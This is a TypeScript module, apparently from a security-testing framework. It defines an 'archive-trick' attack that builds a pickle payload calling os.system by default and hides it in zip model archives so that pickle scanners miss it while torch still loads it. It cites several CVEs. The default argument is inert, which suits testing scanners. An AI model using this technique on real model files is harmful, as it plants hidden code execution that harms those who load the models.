import { z } from 'zod'
import { modelAttack } from '../../core/index.ts'
import { type Archive, archiveOf, joined, type Member } from './archive.ts'
import { tricked, trickNames } from './tricks.ts'

/** Longer names than any loader gives: they would not fit twice into a comment. */
const mostName = 4096

/** Hides a pickle that calls something in an archive, where the reader that checks does not look. */
export default modelAttack({
  id: 'archive-trick',
  title: 'A pickle that only some readers of the archive see',
  threat: 'model-file-malware',
  source:
    'CVE-2025-1944, CVE-2025-1945 and CVE-2025-10156: archives that a scanner of pickles refused and torch loaded',
  input: { model: ['zip'] },
  options: z.object({
    trick: z.enum(trickNames).default('last-duplicate').describe('How the payload is put into the archive.'),
    call: z
      .string()
      .max(200)
      .regex(/^[\w.]+\.\w+$/)
      .default('os.system')
      .describe('What the payload calls, as `module.name`.'),
    argument: z.string().max(200).default('true').describe('Its only argument: a text that does nothing.'),
  }),

  corrupt({ trick, call, argument }, host) {
    for (const [file, data] of Object.entries(host)) {
      const archive = archiveOf(data)
      const target = archive && targetOf(archive)
      if (!target || target.name.length > mostName) continue
      const poisoned = tricked(trick, { ...archive, target, payload: payloadOf(call, argument) })
      return { files: { ...host, [file]: poisoned }, file, names: [call] }
    }
    return null
  },
})

/** The pickle that a loader would run, else the first member. */
const targetOf = ({ members }: Archive): Member =>
  members.find(({ name }) => /\.(?:pkl|pickle)$/.test(name)) ?? members[0]!

/** A pickle of one call with an inert text. */
function payloadOf(call: string, argument: string): Uint8Array {
  const encoder = new TextEncoder()
  const dot = call.lastIndexOf('.')
  const text = encoder.encode(argument)
  const size = [0, 8, 16, 24].map(shift => (text.length >>> shift) & 255)
  const global = encoder.encode(`c${call.slice(0, dot)}\n${call.slice(dot + 1)}\n`)
  return joined(Uint8Array.of(0x80, 2), global, Uint8Array.of(0x58, ...size), text, Uint8Array.of(0x85, 0x52, 0x2e))
}
